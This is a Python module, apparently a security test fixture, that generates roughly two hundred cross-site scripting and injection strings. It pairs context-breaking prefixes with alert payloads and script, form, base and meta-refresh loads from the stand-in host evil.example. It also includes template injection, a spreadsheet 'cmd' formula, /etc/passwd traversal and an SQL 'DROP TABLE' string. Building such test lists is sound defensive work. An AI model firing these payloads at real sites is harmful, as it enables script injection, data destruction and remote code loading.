"""Two hundred hostile strings: a table of pieces that break out of a context, times a table of what then would act.

Each would call ``alert`` with its own number, or ask a host that must not be asked. A page that lets one act is found
by the dialog or the request.
"""

from __future__ import annotations

BREAKS = [
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "</textarea>{}",
    "-->{}",
    "</q></td></table>{}",
    "</svg>{}",
    "]]>{}",
    "\u202e{}",
    "\x00{}",
]

ACTS = [
    "<script>alert({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<body onload=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<iframe src='javascript:alert({n})'></iframe>",
    "<a href='javascript:alert({n})'>x</a>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<form action=//evil.example/{n}><button>go</button></form>",
]

OTHERS = [
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "vbscript:msgbox({n})",
    "{{{{ 7 * {n} }}}}",
    "{{% for x in range({n}) %}}x{{% endfor %}}",
    "${{alert({n})}}",
    "#{{alert({n})}}",
    "=cmd|' /C calc'!A{n}",
    "+alert({n})",
    "-1+alert({n})",
    "@SUM(1,{n})",
    '" onmouseover="alert({n})',
    "' onfocus='alert({n})' autofocus='",
    "\u2028alert({n})\u2029",
    "\ufeff<script>alert({n})</script>",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "../../{n}/etc/passwd",
    "'; DROP TABLE incidents; -- {n}",
    "hx-get=//evil.example/{n} hx-trigger=load",
    "<div hx-get=//evil.example/{n} hx-trigger=load></div>",
    "<div hx-on:load=alert({n})></div>",
]


def hostile_strings() -> list[str]:
    """All of them, each once, in a fixed order."""
    broken = [into.format(act) for act in ACTS for into in BREAKS]
    return [text.format(n=number) for number, text in enumerate([*broken, *OTHERS])]
